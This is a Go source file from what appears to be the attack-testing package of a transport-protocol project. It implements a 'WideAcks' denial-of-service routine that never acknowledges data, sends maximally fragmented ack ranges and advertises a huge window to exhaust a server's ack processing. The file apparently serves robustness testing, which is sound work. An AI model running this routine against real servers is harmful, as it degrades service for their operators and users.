package attack

import (
	"context"
	"sync/atomic"
	"time"

	"github.com/mpqsched/mpqsched/pkg/wire"
)

// WideAcks (issue 29 item 2) requests o.File, reads the server's segments,
// and at o.Rate per second per session sends Acks with cumulative 0 that
// name every later segment received so far in wire.MaxAckRanges ranges
// (one-segment gaps between them) and announce a 2^62−1 byte window.
// Nothing below the gaps is ever acknowledged for good, so the server keeps
// up to its unacknowledged-data cap in flight and each Ack names ~14k
// segments it has already seen acknowledged: a server whose Ack processing
// walks ranges segment by segment pays for every one of them, each time.
func WideAcks(ctx context.Context, o Options) Result {
	return runWith(ctx, "wideack", o, func(ctx context.Context, o Options) (*Peer, error) {
		return Dial(ctx, o.Addr, o.TLS)
	}, func(ctx context.Context, p *Peer, c *counters) error {
		var next atomic.Uint64 // segments received (one path: in order)
		go func() {
			buf := make([]byte, wire.MaxSegmentPayload)
			for {
				seg, err := wire.ReadSegment(p.In, buf)
				if err != nil {
					return
				}
				next.Store(seg.Seq + 1)
			}
		}()
		if err := p.Request("FILE " + o.File + "\n"); err != nil {
			return err
		}
		rate := max(o.Rate, 1)
		a := wire.Ack{Cum: 0}
		return p.ackEvery(ctx, c, time.Second/time.Duration(rate), func() *wire.Ack {
			a.Ranges = wideRanges(a.Ranges[:0], next.Load())
			return &a
		})
	})
}

// wideRanges appends up to wire.MaxAckRanges ranges over [1, n) with a
// one-segment gap between consecutive ones.
func wideRanges(r []wire.Range, n uint64) []wire.Range {
	if n < 2 {
		return r
	}
	w := max((n-1)/wire.MaxAckRanges, 2)
	for start := uint64(1); start < n && len(r) < wire.MaxAckRanges; start += w {
		end := min(start+w-1, n)
		if start < end {
			r = append(r, wire.Range{Start: start, End: end})
		}
	}
	return r
}
